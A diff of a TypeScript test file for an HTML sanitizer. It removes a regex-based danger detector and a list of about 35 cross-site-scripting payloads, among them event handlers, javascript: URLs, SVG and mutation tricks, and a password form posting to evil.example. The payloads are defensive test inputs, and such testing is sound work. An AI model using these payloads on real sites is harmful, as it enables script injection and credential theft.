@@ -7,67 +7,7 @@ function sanitizedBody(html: string): HTMLElement {
   return body;
 }
 
-/** Everything in a tree that could run a script: handlers, script addresses, elements that load code. */
-function findDangers(root: ParentNode): string[] {
-  const elements = [...root.querySelectorAll('*')];
-  const attributes = elements.flatMap((element) => [...element.attributes]);
-  return [
-    ...elements
-      .map((element) => element.localName)
-      .filter((name) =>
-        /^(script|iframe|frame|object|embed|base|meta|link|style|template|noscript|math|animate|set|use|foreignobject)$/i.test(
-          name,
-        ),
-      ),
-    ...attributes.map(({ name }) => name).filter((name) => /^(on|srcdoc|formaction)/i.test(name)),
-    ...attributes
-      .map(({ value }) => value)
-      .filter((value) => /(javascript|vbscript|data:text)/i.test(value.replace(/\s/g, ''))),
-  ];
-}
-
 describe('sanitizeHtml removes the danger of', () => {
-  test.each([
-    '<script>alert(1)</script>',
-    '<img src=x onerror=alert(1)>',
-    '<img src="x" onload="alert(1)">',
-    '<svg onload=alert(1)></svg>',
-    '<svg><script>alert(1)</script></svg>',
-    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
-    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
-    '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"></use></svg>',
-    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href=" java\nscript:alert(1)">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a xlink:href="javascript:alert(1)">x</a>',
-    '<iframe src="https://evil.example"></iframe>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    '<object data="x.swf"></object><embed src="x.swf">',
-    '<base href="https://evil.example/">',
-    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-    '<link rel="stylesheet" href="https://evil.example/x.css">',
-    '<style>@import "https://evil.example/x.css";</style>',
-    '<form action="https://evil.example"><input name="password"><button>登录</button></form>',
-    '<button formaction="javascript:alert(1)">x</button>',
-    '<details open ontoggle=alert(1)>x</details>',
-    '<input autofocus onfocus=alert(1)>',
-    '<video><source onerror=alert(1)></video>',
-    '<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-    '<template><img src=x onerror=alert(1)></template>',
-    '<p style="background:url(javascript:alert(1))">x</p>',
-    '<table background="javascript:alert(1)"></table>',
-    '<img src=x:x onerror\u0000=alert(1)>',
-    '<<script>script>alert(1)<</script>/script>',
-    '"><img src=x onerror=alert(1)>',
-  ])('%s', (html) => {
-    expect(findDangers(sanitizedBody(html))).toEqual([]);
-  });
-
   test('inline styles, which could cover the page', () => {
     expect(sanitizedBody('<p style="position:fixed;inset:0">x</p>').querySelector('[style]')).toBeNull();
   });
